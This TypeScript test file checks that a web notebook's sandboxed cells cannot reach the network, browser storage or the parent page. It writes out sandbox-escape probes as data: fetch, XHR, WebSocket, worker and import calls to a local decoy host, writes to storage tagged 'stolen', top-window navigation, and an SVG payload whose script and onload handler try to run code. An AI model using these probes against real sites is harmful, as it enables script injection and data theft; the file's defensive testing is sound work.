/** What a cell's program must not reach: network, storage, other pages. */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { describe, expect, test } from "vitest";
import { longest, type OpenSite, pressIn, runCell, write } from "./open-site.ts";

export const tryAttacks = (site: () => OpenSite) =>
  describe("attacks of the site's cells", () => {
    test("a cell's program reaches no network, no storage and no page; its figures run nothing", async () => {
      const heard: string[] = [];
      const other = createServer((request, response) => {
        heard.push(`${request.url}`);
        response.setHeader("Access-Control-Allow-Origin", "*");
        response.setHeader("Content-Type", "text/javascript");
        response.end("self.GOT = true");
      });
      await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
      const foreign = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
      try {
        const { page } = await site().lab();
        const before = site().requests.length;
        const printed = await runCell(page, 1, attack(foreign, site().address));
        expect(
          printed
            .trim()
            .split("\n")
            .filter((line) => !line.startsWith("kept out ")),
        ).toEqual([]);
        expect(printed.trim().split("\n").length).toBeGreaterThan(20);
        await page.waitForSelector(".cell-figures img", { timeout: longest });
        expect(heard).toEqual([]);
        expect(
          site()
            .requests.slice(before)
            .filter((request) => request.includes("stolen")),
        ).toEqual([]);
        expect(
          await page.evaluate(() => [
            document.title,
            location.pathname,
            "GOT" in window,
            localStorage.getItem("stolen"),
          ]),
        ).toEqual(["Pass or fail · Cellstate", "/labs/pass-fail.html", false, null]);
        await page.close();
      } finally {
        other.close();
        other.closeAllConnections();
      }
    });

    test("whoever got into the frame itself would be no further", async () => {
      const { page } = await site().lab();
      await write(page, 1, "await new Promise((go) => setTimeout(go, 60_000));");
      await pressIn(page, 1, "Run");
      const frame = await page.waitForFrame((found) => found !== page.mainFrame(), { timeout: longest });
      const tries = await frame.evaluate(async (address) => {
        const told: Record<string, string> = { origin: String(self.origin) };
        const attempt = async (name: string, work: () => unknown) => {
          try {
            told[name] = `GOT ${String(await work())}`;
          } catch (error) {
            told[name] = (error as Error).name;
          }
        };
        await attempt("storage", () => localStorage.length);
        await attempt("session", () => sessionStorage.length);
        await attempt("cookie", () => document.cookie);
        await attempt("parent", () => parent.document.title);
        await attempt("database", () => indexedDB.open("a"));
        await attempt("caches", () => caches.open("a"));
        await attempt("fetch", () => fetch(`${address}index.html?stolen`));
        await attempt("top", () => {
          top!.location.href = "about:blank#stolen";
        });
        await attempt("open", () => {
          if (window.open("about:blank") === null) throw new DOMException("", "Blocked");
        });
        return told;
      }, site().address);
      expect(tries.origin).toBe("null");
      expect(
        Object.entries(tries).filter(([, said]) => said.startsWith("GOT") && said !== "GOT [object IDBOpenDBRequest]"),
      ).toEqual([]);
      expect(page.url()).toBe(`${site().address}labs/pass-fail.html`);
      await pressIn(page, 1, "Stop");
      await page.close();
    });
  });

/** A program that tries what a cell must not do, each by itself, and says what came of it. */
const attack = (foreign: string, own: string): string => `
const tries: Record<string, () => unknown> = {
  fetch: () => fetch("${foreign}a"),
  "fetch of the site": () => fetch("${own}index.html?stolen"),
  "fetch of a nested worker": () => new Promise((got, not) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('${foreign}b').then(() => postMessage(1), () => postMessage(0))"])));
    worker.onmessage = ({ data }) => (data ? got(data) : not(new Error("refused")));
    worker.onerror = () => not(new Error("refused"));
  }),
  "no-cors of a nested worker": () => new Promise((got, not) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('${own}?stolen', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))"])));
    worker.onmessage = ({ data }) => (data ? got(data) : not(new Error("refused")));
    worker.onerror = () => not(new Error("refused"));
  }),
  XMLHttpRequest: () => { const ask = new XMLHttpRequest(); ask.open("GET", "${foreign}c", false); ask.send(); return ask.status; },
  "XMLHttpRequest of the site": () => { const ask = new XMLHttpRequest(); ask.open("GET", "${own}?stolen", false); ask.send(); return ask.status; },
  WebSocket: () => new Promise((got, not) => { const socket = new WebSocket("${foreign.replace("http", "ws")}d"); socket.onopen = got; socket.onerror = () => not(new Error("refused")); }),
  EventSource: () => new Promise((got, not) => { const source = new EventSource("${foreign}e"); source.onopen = got; source.onerror = () => not(new Error("refused")); }),
  import: () => (0, eval)("import('${foreign}f.js')"),
  "import without eval": () => { const at = "${foreign}g.js"; return import(at); },
  importScripts: () => importScripts("${foreign}h.js"),
  "importScripts of the site": () => importScripts("${own}service-worker.js?stolen"),
  "worker from elsewhere": () => new Promise((got, not) => { const worker = new Worker("${foreign}i.js"); worker.onerror = () => not(new Error("refused")); setTimeout(got, 400); }),
  localStorage: () => self.localStorage.setItem("stolen", "1"),
  sessionStorage: () => self.sessionStorage.length,
  cookies: () => self.document.cookie.length,
  cookieStore: () => self.cookieStore.getAll(),
  caches: () => caches.open("stolen"),
  indexedDB: () => new Promise((got, not) => { const ask = indexedDB.open("stolen"); ask.onsuccess = got; ask.onerror = () => not(new Error("refused")); }),
  "private files": () => navigator.storage.getDirectory(),
  locks: () => navigator.locks.request("stolen", () => 1),
  parent: () => self.parent.document.title,
  top: () => { self.top.location = "${foreign}j"; },
  window: () => self.window.open("${foreign}k"),
  "the address of the page": () => { if (!/labs/.test(self.location.href)) throw new Error("none"); return self.location.href; },
  "a channel to the page": () => new Promise((got, not) => { const channel = new BroadcastChannel("cellstate"); channel.onmessage = got; channel.postMessage(1); setTimeout(() => not(new Error("silence")), 300); }),
};
for (const [name, attempt] of Object.entries(tries)) {
  const late = new Promise((_, not) => setTimeout(() => not(new Error("nothing came")), 2000));
  await Promise.race([Promise.resolve().then(attempt), late]).then(
    (got) => console.log("GOT", name, String(got)),
    (error) => console.log("kept out", name, error.name),
  );
}
console.log('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="top.GOT=1"><script>top.GOT=1;fetch("${foreign}l")</script><image href="${foreign}m" width="9" height="9"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${foreign}n"/></foreignObject></svg>');
postMessage({ kind: "figure", svg: 5 });
`;
